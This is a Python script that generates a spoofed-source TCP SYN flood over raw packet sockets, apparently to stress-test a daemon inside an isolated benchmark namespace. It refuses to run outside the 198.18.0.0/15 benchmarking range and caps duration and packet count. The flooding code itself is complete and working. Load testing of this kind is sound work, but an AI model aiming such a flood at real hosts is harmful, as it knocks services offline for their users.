#!/usr/bin/env python3
"""Spoofed TCP SYN flood for the daemon benchmark (run inside the attacker namespace).

Pre-builds Ethernet/IPv4/TCP SYN frames (correct IPv4 and TCP checksums) with random
source addresses inside ``--spoof`` (default 198.18.128.0/17, the benchmarking range,
never routed anywhere), random source ports, and destination ports cycling through
``--ports``; then sends them on an AF_PACKET socket at ``--rate`` frames per second.
The clock is checked every ``--batch`` frames; ahead of schedule it sleeps.

Bounded twice: it stops after ``--seconds`` or ``--max-packets``, whichever comes
first, or at SIGTERM/SIGINT. It prints ``ready`` once the frames are built (and the
flood starts at once), and one JSON line at the end: frames sent, send errors,
seconds and the rate achieved.

    ip netns exec NS python flood.py --ifname eth0 --dst-mac MAC --dst-ip ADDR \\
        --ports 7113,2231,9157 --rate 10000 --seconds 30
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import random
import resource
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

ETH_P_IP = 0x0800


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return int(~total & 0xFFFF)


def mac_bytes(text: str) -> bytes:
    return bytes(int(part, 16) for part in text.split(":"))


def build_frames(
    count: int,
    src_mac: bytes,
    dst_mac: bytes,
    dst_ip: str,
    ports: list[int],
    spoof: ipaddress.IPv4Network,
    seed: int,
) -> list[bytes]:
    rng = random.Random(seed)
    eth = dst_mac + src_mac + struct.pack("!H", ETH_P_IP)
    dst = ipaddress.IPv4Address(dst_ip).packed
    base = int(spoof.network_address)
    span = spoof.num_addresses
    frames = []
    for i in range(count):
        src = struct.pack("!I", base + rng.randrange(1, span - 1))
        sport = rng.randrange(1024, 65536)
        dport = ports[i % len(ports)]
        seq = rng.getrandbits(32)
        ip_id = rng.getrandbits(16)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, ip_id, 0x4000, 64, 6, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        frames.append(eth + ip + tcp + b"\0" * 6)  # padded to the 60-byte minimum
    return frames


def run_flood(
    ifname: str,
    build: Callable[[bytes], list[bytes]],
    rate: float,
    seconds: float,
    max_packets: int,
    batch: int,
) -> dict[str, Any]:
    """Send ``build(source MAC)``'s frames, cycling, on an AF_PACKET socket bound to
    ``ifname`` at ``rate`` frames/s (the clock checked every ``batch`` frames, a sleep
    when ahead) until ``seconds`` have passed, ``max_packets`` are sent or SIGTERM/SIGINT
    arrives. Prints ``ready`` once the frames are built; returns the report (frames sent,
    send errors, seconds, rate achieved and target, CPU seconds while sending, why it
    stopped)."""
    stop = False

    def on_signal(_sig: int, _frame: object) -> None:
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)  # protocol 0: send only
    sock.bind((ifname, 0))
    with open(f"/sys/class/net/{ifname}/address") as f:
        src_mac = mac_bytes(f.read().strip())
    frames = build(src_mac)
    pool = len(frames)
    send = sock.send
    print("ready", flush=True)

    sent = errors = 0
    index = 0
    usage = resource.getrusage(resource.RUSAGE_SELF)
    cpu_start = usage.ru_utime + usage.ru_stime
    start = time.monotonic()
    deadline = start + seconds
    monotonic = time.monotonic
    sleep = time.sleep
    while not stop and sent < max_packets:
        now = monotonic()
        if now >= deadline:
            break
        ahead = start + sent / rate - now
        if ahead > 0:
            sleep(ahead)
        n = min(batch, max_packets - sent)
        for _ in range(n):
            try:
                send(frames[index])
            except OSError:  # a full queue: the frame is lost, as on a wire
                errors += 1
            index += 1
            if index == pool:
                index = 0
        sent += n
    elapsed = time.monotonic() - start
    sock.close()
    usage = resource.getrusage(resource.RUSAGE_SELF)
    cpu = usage.ru_utime + usage.ru_stime - cpu_start
    return {
        "sent": sent,
        "errors": errors,
        "seconds": round(elapsed, 3),
        "rate": round((sent - errors) / elapsed, 1) if elapsed > 0 else 0.0,
        "target": rate,
        "cpu_seconds": round(cpu, 3),  # while sending (building the frames excluded)
        "stopped_by": "signal" if stop else ("count" if sent >= max_packets else "time"),
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--ifname", default="eth0")
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--dst-ip", required=True)
    parser.add_argument("--ports", required=True, help="comma-separated destination ports")
    parser.add_argument("--rate", type=float, required=True, help="frames per second")
    parser.add_argument("--seconds", type=float, required=True, help="upper bound on duration")
    parser.add_argument("--max-packets", type=int, default=0, help="0: rate * seconds")
    parser.add_argument("--spoof", default="198.18.128.0/17")
    parser.add_argument("--pool", type=int, default=65536, help="distinct frames to cycle")
    parser.add_argument("--batch", type=int, default=50, help="frames between clock checks")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()

    spoof = ipaddress.IPv4Network(args.spoof)
    if not spoof.subnet_of(ipaddress.IPv4Network("198.18.0.0/15")):
        print("refusing: spoofed sources must stay inside 198.18.0.0/15", file=sys.stderr)
        return 2
    if ipaddress.IPv4Address(args.dst_ip) not in ipaddress.IPv4Network("198.18.0.0/15"):
        print("refusing: destination must be inside 198.18.0.0/15", file=sys.stderr)
        return 2
    if args.seconds <= 0 or args.seconds > 600 or args.rate <= 0:
        print("refusing: --seconds must be in (0, 600] and --rate > 0", file=sys.stderr)
        return 2
    max_packets = args.max_packets or int(args.rate * args.seconds) + args.batch

    ports = [int(p) for p in args.ports.split(",")]

    def build(src_mac: bytes) -> list[bytes]:
        return build_frames(
            args.pool, src_mac, mac_bytes(args.dst_mac), args.dst_ip, ports, spoof, args.seed
        )

    result = run_flood(args.ifname, build, args.rate, args.seconds, max_packets, args.batch)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
